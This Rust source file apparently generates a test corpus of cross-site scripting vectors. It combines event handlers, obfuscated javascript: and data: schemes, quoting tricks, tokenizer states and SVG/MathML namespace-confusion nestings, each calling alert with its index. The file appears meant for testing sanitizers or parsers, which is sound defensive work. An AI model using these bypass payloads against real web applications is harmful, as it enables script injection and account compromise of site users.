//! Pieces of HTML that try to run something, made by rule: whatever runs a script × how its attribute is
//! written × where it stands × the state in which it finds the tokenizer of the WHATWG's standard.
//!
//! Each calls `alert` with its own number, so that what runs names itself.

/// Elements and attributes of them that run their value when something happens.
const HANDLERS: [(&str, &str); 38] = [
    ("img src=x", "onerror"),
    ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"),
    ("img srcset=x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("html", "onfocusin"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("picture><source srcset=x><img src=x", "onerror"),
    ("video controls><track default src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=x autofocus", "onfocus"),
    ("p tabindex=1 autofocus", "onfocus"),
    ("x contenteditable autofocus", "onfocus"),
    ("iframe", "onload"),
    ("iframe src=https://www.youtube.com/embed/a", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("marquee", "onstart"),
    ("frameset", "onload"),
    ("div style=animation:a", "onanimationstart"),
    ("div popover", "onbeforetoggle"),
    ("dialog open", "onclose"),
    ("math", "onclick"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onend"),
    ("svg><image href=x", "onerror"),
    ("math><mtext", "onmouseover"),
];

/// Elements and attributes of them that lead somewhere, load something or hold a document.
const ADDRESSES: [(&str, &str); 66] = [
    ("a", "href"),
    ("a target=_blank", "href"),
    ("a href=x", "ping"),
    ("area", "href"),
    ("form", "action"),
    ("form><button autofocus", "formaction"),
    ("form><input type=submit", "formaction"),
    ("form><input type=image", "src"),
    ("iframe", "src"),
    ("iframe sandbox=allow-scripts", "src"),
    ("frame", "src"),
    ("frameset><frame", "src"),
    ("object", "data"),
    ("object type=text/html", "codebase"),
    ("embed", "src"),
    ("applet", "code"),
    ("img", "src"),
    ("img", "srcset"),
    ("img", "lowsrc"),
    ("img", "dynsrc"),
    ("img", "longdesc"),
    ("img src=x", "usemap"),
    ("img", "data-src"),
    ("img", "data-srcset"),
    ("img", "data-original"),
    ("img src=placeholder.gif", "data-lazy-src"),
    ("iframe", "data-src"),
    ("video", "src"),
    ("video", "poster"),
    ("video><source", "src"),
    ("audio", "src"),
    ("picture><source", "srcset"),
    ("video src=x><track default", "src"),
    ("body", "background"),
    ("table", "background"),
    ("table><tr><td", "background"),
    ("link rel=stylesheet", "href"),
    ("link rel=import", "href"),
    ("link rel=preload as=script", "href"),
    ("base", "href"),
    ("base", "target"),
    ("script", "src"),
    ("html", "manifest"),
    ("blockquote", "cite"),
    ("q", "cite"),
    ("ins", "cite"),
    ("bgsound", "src"),
    ("input type=image", "src"),
    ("isindex", "action"),
    ("svg><a", "href"),
    ("svg><a", "xlink:href"),
    ("svg><use", "href"),
    ("svg><use", "xlink:href"),
    ("svg><image", "href"),
    ("svg><script", "href"),
    ("svg><script", "xlink:href"),
    ("svg><feImage", "href"),
    ("svg><a><animate attributeName=href", "values"),
    ("svg><a><set attributeName=xlink:href", "to"),
    ("svg><foreignObject><iframe", "src"),
    ("math", "href"),
    ("math", "xlink:href"),
    ("math><mi", "href"),
    ("math><maction actiontype=statusline", "xlink:href"),
    ("math><annotation-xml encoding=text/html><a", "href"),
    ("math><mglyph", "src"),
];

/// Scripts as addresses, written as browsers still read them; `{}` is where the number stands.
const SCHEMES: [&str; 30] = [
    "javascript:alert({})",
    "JaVaScRiPt:alert({})",
    " javascript:alert({})",
    "\njavascript:alert({})",
    "\u{1}javascript:alert({})",
    "\u{1f}\u{c}javascript:alert({})",
    "java\tscript:alert({})",
    "java\nscript:alert({})",
    "java\r\nscript:alert({})",
    "javascript\n:alert({})",
    "javascript&colon;alert({})",
    "javascript&#58;alert({})",
    "javascript&#x3a;alert({})",
    "java&Tab;script:alert({})",
    "java&NewLine;script:alert({})",
    "&#1;javascript:alert({})",
    "&#x6a;avascript:alert({})",
    "&#106avascript:alert({})",
    "&#0000106avascript:alert({})",
    "&#x000006Aavascript:alert({})",
    "j&#97v&#97script&#58alert({})",
    "javascript://x%0aalert({})",
    "javascript:/*--></title></style></textarea></script>*/alert({})",
    "data:text/html,<script>alert({})</script>",
    "data:text/html;charset=utf-8,%3Cscript%3Ealert({})%3C/script%3E",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert({})'/>",
    "vbscript:alert({})",
    "view-source:javascript:alert({})",
    "blob:javascript:alert({})",
    "\u{feff}javascript:alert({})",
];

/// How an attribute `N` with a value `V` is written, and what comes before it.
const QUOTINGS: [&str; 18] = [
    " N=\"V\"",
    " N='V'",
    " N=V",
    "/N=V",
    "//N=\"V\"/",
    "\nN\n=\nV\n",
    "\tN=V\t",
    "\u{c}N=V\u{c}",
    " a=\"b\"N=V",
    " a='>'N=V",
    " a=\"&quot;\" N=V",
    " a=`>`N=V",
    " N=ok N=V",
    " =a N=V",
    " \" N=V",
    " <N=V N=V",
    " x\u{0}=y N=V",
    " N=V/ N =V x",
];

/// What may stand around: before and after.
const CONTEXTS: [(&str, &str); 74] = [
    ("", ""),
    ("<p>", "</p>"),
    ("<table>", "</table>"),
    ("<table><tr>", "</table>"),
    ("<table><tr><td>", "</table>"),
    ("<table><caption>", "</table>"),
    ("<table><colgroup>", "</table>"),
    ("<table><tbody><tr><th><select>", "</table>"),
    ("<select>", "</select>"),
    ("<select><option>", "</select>"),
    ("<select><optgroup><option>", "</select>"),
    ("<select><template>", "</select>"),
    ("<select><keygen>", "</select>"),
    ("<svg>", "</svg>"),
    ("<svg><p>", "</svg>"),
    ("<svg></p>", "</svg>"),
    ("<svg><desc>", "</svg>"),
    ("<svg><title>", "</svg>"),
    ("<svg><foreignObject>", "</svg>"),
    ("<svg><foreignobject><math><mi>", "</svg>"),
    ("<svg><style>", "</svg>"),
    ("<svg><script>", "</svg>"),
    ("<svg><textarea>", "</svg>"),
    ("<svg><noscript>", "</svg>"),
    ("<svg><![CDATA[", "]]></svg>"),
    ("<svg><![CDATA[]]>", "</svg>"),
    ("<svg><desc><![CDATA[", "]]></svg>"),
    ("<svg><font color=a>", "</svg>"),
    ("<svg><use href=#a></use><g id=a>", "</svg>"),
    ("<math>", "</math>"),
    ("<math><mtext>", "</math>"),
    ("<math><mi><p>", "</math>"),
    ("<math><ms><table>", "</math>"),
    ("<math><mglyph>", "</math>"),
    ("<math><mtext><mglyph>", "</math>"),
    ("<math><mtext><malignmark>", "</math>"),
    ("<math><style>", "</math>"),
    ("<math><annotation-xml>", "</math>"),
    ("<math><annotation-xml encoding=\"text/html\">", "</math>"),
    ("<math><annotation-xml encoding=\"application/xhtml+xml\"><svg>", "</math>"),
    ("<math><![CDATA[", "]]></math>"),
    ("<template>", "</template>"),
    ("<template><template>", "</template></template>"),
    ("<div><template shadowrootmode=open>", "</template></div>"),
    ("<noscript>", "</noscript>"),
    ("<noscript><p title=\"</noscript>", "\"></noscript>"),
    ("<textarea>", "</textarea>"),
    ("</textarea><textarea></textarea>", ""),
    ("<title>", "</title>"),
    ("<title></title>", ""),
    ("<style>", "</style>"),
    ("<style></style>", ""),
    ("<script>", "</script>"),
    ("<script></script>", ""),
    ("<script><!--<script>", "--></script>"),
    ("<xmp>", "</xmp>"),
    ("<xmp></xmp>", ""),
    ("<iframe>", "</iframe>"),
    ("<iframe></iframe>", ""),
    ("<noembed>", "</noembed>"),
    ("<noframes>", "</noframes>"),
    ("<!--", "-->"),
    ("<!-->", "-->"),
    ("<!--->", "-->"),
    ("<!-- a --!>", "-->"),
    ("<![CDATA[", "]]>"),
    ("<?xml ", "?>"),
    ("<form><form>", "</form>"),
    ("<a href=x><a>", "</a>"),
    ("<b><p><i></b>", "</i>"),
    ("<nobr><nobr>", "</nobr>"),
    ("<ruby><rt><rp>", "</ruby>"),
    ("<object><embed>", "</object>"),
    ("<frameset></frameset><noframes>", "</noframes>"),
];

/// Beginnings that leave the tokenizer in its states, one after the other.
const STATES: [&str; 78] = [
    "a",
    "<",
    "</",
    "<p",
    "</p",
    "<p ",
    "<p a",
    "<p a ",
    "<p a=",
    "<p a= ",
    "<p a=\"",
    "<p a='",
    "<p a=b",
    "<p a=\"b\"",
    "<p a=b ",
    "<p/",
    "<p a/",
    "</p a=\"",
    "<?",
    "<!",
    "</ ",
    "<!a",
    "<!-",
    "<!--",
    "<!---",
    "<!----",
    "<!-- a",
    "<!-- a-",
    "<!-- a--",
    "<!-- a--!",
    "<!-- <",
    "<!-- <!",
    "<!-- <!-",
    "<!-- <!--",
    "<!-->",
    "<!--->",
    "<!D",
    "<!DOCTYPE",
    "<!DOCTYPE ",
    "<!DOCTYPE a",
    "<!DOCTYPE a ",
    "<!DOCTYPE a PUBLIC",
    "<!DOCTYPE a PUBLIC \"",
    "<!DOCTYPE a PUBLIC '' '",
    "<!DOCTYPE a SYSTEM",
    "<!DOCTYPE a SYSTEM \"",
    "<!DOCTYPE a SYSTEM \"\" x",
    "<![",
    "<![CDATA[",
    "<svg><![CDATA[",
    "<svg><![CDATA[]",
    "<svg><![CDATA[]]",
    "<title><",
    "<title></",
    "<title></titl",
    "<textarea></textarea",
    "<style><",
    "<style></",
    "<style></styl",
    "<script><",
    "<script></",
    "<script><!",
    "<script><!-",
    "<script><!--",
    "<script><!-- -",
    "<script><!-- <",
    "<script><!-- </",
    "<script><!-- <s",
    "<script><!--<script ",
    "<script><!--<script><",
    "<script><!--<script></",
    "<plaintext>",
    "&",
    "&a",
    "&#",
    "&#x",
    "&#6",
    "\u{0}",
];

/// What the vectors of states and nestings end with.
const PAYLOADS: [&str; 9] = [
    "<img src=x onerror=alert({})>",
    "<svg onload=alert({})>",
    "<script>alert({})</script>",
    "<a href=javascript:alert({})>x</a>",
    "\"><img src=x onerror=alert({})>",
    "'><img src=x onerror=alert({})>",
    "--><img src=x onerror=alert({})>",
    " onfocus=alert({}) autofocus tabindex=1 x",
    "]]><img src=x onerror=alert({})>",
];

/// Foreign elements, the points in them where HTML begins again, and what is misplaced there.
const FOREIGN: [&str; 2] = ["svg", "math"];
const POINTS: [&str; 12] = [
    "",
    "desc",
    "title",
    "foreignObject",
    "mtext",
    "mi",
    "mo",
    "mn",
    "ms",
    "annotation-xml",
    "annotation-xml encoding=text/html",
    "p",
];
const MISPLACED: [&str; 8] = [
    "",
    "<mglyph>",
    "<malignmark>",
    "<table>",
    "<table><mglyph>",
    "<form></math><form><mglyph>",
    "<select>",
    "<svg></p>",
];
/// Elements whose content is text in one namespace and markup in the other.
const RAW: [&str; 11] =
    ["style", "title", "textarea", "script", "noscript", "xmp", "noembed", "noframes", "iframe", "!--", "![CDATA["];

fn close(raw: &str) -> String {
    match raw {
        "!--" => "-->".to_owned(),
        "![CDATA[" => "]]>".to_owned(),
        name => format!("</{name}>"),
    }
}

fn open(raw: &str) -> String {
    if raw.starts_with('!') { format!("<{raw}") } else { format!("<{raw}>") }
}

fn element(tag: &str, attribute: &str, value: &str, quoting: &str) -> String {
    let written = quoting.replace('N', attribute).replace('V', value);
    format!("<{tag}{written}>x")
}

/// All vectors, the number of each being its place.
pub(crate) fn vectors() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    let mut add = |vector: String| {
        let number = all.len().to_string();
        all.push(vector.replace("{}", &number));
    };
    let quotings = QUOTINGS.iter().take(3).chain(&QUOTINGS).enumerate();
    for (before, after) in CONTEXTS {
        for (n, (tag, attribute)) in HANDLERS.iter().enumerate() {
            let quoting = QUOTINGS[(n * 7 + before.len()) % QUOTINGS.len()];
            add(format!("{before}{}{after}", element(tag, attribute, "alert({})", quoting)));
        }
        for (n, (tag, attribute)) in ADDRESSES.iter().enumerate() {
            let value = SCHEMES[(n * 11 + before.len()) % SCHEMES.len()].replace('"', "&quot;");
            add(format!("{before}{}{after}", element(tag, attribute, &value, QUOTINGS[0])));
        }
        // Out of the context by its own end, from within an attribute too.
        for payload in PAYLOADS {
            add(format!("{before}{after}{payload}"));
            add(format!("{before}<p title=\"{after}{payload}\">{after}"));
            add(format!("{before}<a href='{after}{payload}'>x</a>{after}"));
        }
    }
    for (tag, attribute) in ADDRESSES {
        for scheme in SCHEMES {
            add(element(tag, attribute, scheme, if scheme.contains('\'') { QUOTINGS[0] } else { QUOTINGS[1] }));
        }
    }
    for (n, quoting) in quotings {
        for (tag, attribute) in HANDLERS {
            let spelt = if n < 3 { attribute.to_uppercase() } else { attribute.to_owned() };
            add(element(tag, &spelt, "alert({})", quoting));
        }
        for (tag, attribute) in ADDRESSES {
            add(element(tag, attribute, "javascript:alert({})", quoting));
        }
    }
    for state in STATES {
        for payload in PAYLOADS {
            for between in ["", ">", "\u{0}"] {
                add(format!("{state}{between}{payload}"));
            }
        }
    }
    for (n, foreign) in FOREIGN.iter().enumerate() {
        for point in POINTS {
            for misplaced in MISPLACED {
                for (m, raw) in RAW.iter().enumerate() {
                    let point = if point.is_empty() { String::new() } else { format!("<{point}>") };
                    let payload = PAYLOADS[(m / 2 + misplaced.len()) % 4];
                    let (opened, closed) = (open(raw), close(raw));
                    let inner = payload.replace('<', "&lt;");
                    if (n + m) % 2 == 0 {
                        add(format!("<{foreign}>{point}{misplaced}{opened}<a title=\"{closed}{payload}\">"));
                        add(format!("{opened}<{foreign}>{point}{closed}{misplaced}{payload}"));
                    } else {
                        add(format!("<{foreign}>{point}{misplaced}{opened}{payload}{closed}"));
                        add(format!("<p><{foreign}>{point}{misplaced}<b>{opened}&lt;/{raw}&gt;{inner}{closed}"));
                    }
                }
            }
        }
    }
    all
}
